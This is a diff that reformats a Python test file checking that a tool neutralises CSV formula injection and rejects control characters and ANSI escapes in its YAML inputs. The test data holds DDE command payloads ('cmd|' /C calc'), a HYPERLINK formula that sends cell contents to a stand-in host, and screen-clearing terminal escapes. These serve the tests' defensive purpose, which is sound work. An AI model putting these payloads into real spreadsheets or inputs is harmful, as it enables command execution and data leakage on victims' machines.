@@ -1,15 +1,21 @@
 """Nothing a file contains runs in a spreadsheet or a terminal (issue 14): CSV formulas, control characters."""
+
 from __future__ import annotations
 
 import csv
 import io
 
 import pytest
-
 from safety_helpers import directive, english_words, make_project, run
 
-FORMULAS = ['"=HYPERLINK(\\"http://x.example/?\\"&A1, \\"Bấm\\")"', '"+cmd|\' /C calc\'!A0"', '"-2+3+cmd|\' /C calc\'!A0"',
-            '"@SUM(1+1)*cmd|\' /C calc\'!A0"', '"\\t=1+2"', '"\\r=1+2"']
+FORMULAS = [
+    '"=HYPERLINK(\\"http://x.example/?\\"&A1, \\"Bấm\\")"',
+    "\"+cmd|' /C calc'!A0\"",
+    "\"-2+3+cmd|' /C calc'!A0\"",
+    "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
+    '"\\t=1+2"',
+    '"\\r=1+2"',
+]
 
 
 @pytest.fixture
@@ -41,8 +47,15 @@ def test_E31_csv_cells_never_start_a_formula(project):
     assert "'@SUM(1+1)" in written and "'-2+3+cmd" in written and "'+cmd" in written
 
 
-@pytest.mark.parametrize("field, value", [("title", '"Về \\x0b an ninh"'), ("kind", '"chỉ \\e[2J thị"'),
-                                          ("title", '"Về \\x1b[31mđỏ"'), ("kind", '"chỉ\\x00thị"')])
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("title", '"Về \\x0b an ninh"'),
+        ("kind", '"chỉ \\e[2J thị"'),
+        ("title", '"Về \\x1b[31mđỏ"'),
+        ("kind", '"chỉ\\x00thị"'),
+    ],
+)
 def test_E32_an_escaped_control_character_is_refused_with_its_line(project, field, value):
     text = directive(**{field: value})
     (project / "input" / "ct-thu.yaml").write_text(text, encoding="utf-8")
@@ -70,7 +83,7 @@ def test_E32_ansi_escapes_in_the_registry_never_reach_the_terminal(project):
     registry = project / "input" / "co-quan.yaml"
     text = registry.read_text(encoding="utf-8")
     start = text.index("agencies:\n") + len("agencies:\n")
-    extra = "  - id: cong-an-thu\n    name: \"Công an thử\\e[2J\\e[H\"\n    short: CA thử\n    block: noi-chinh\n"
+    extra = '  - id: cong-an-thu\n    name: "Công an thử\\e[2J\\e[H"\n    short: CA thử\n    block: noi-chinh\n'
     registry.write_text(text[:start] + extra + text[start:], encoding="utf-8")
     for command in (("agencies",), ("validate",), ("show", "Công an thử")):
         result = run(*command)
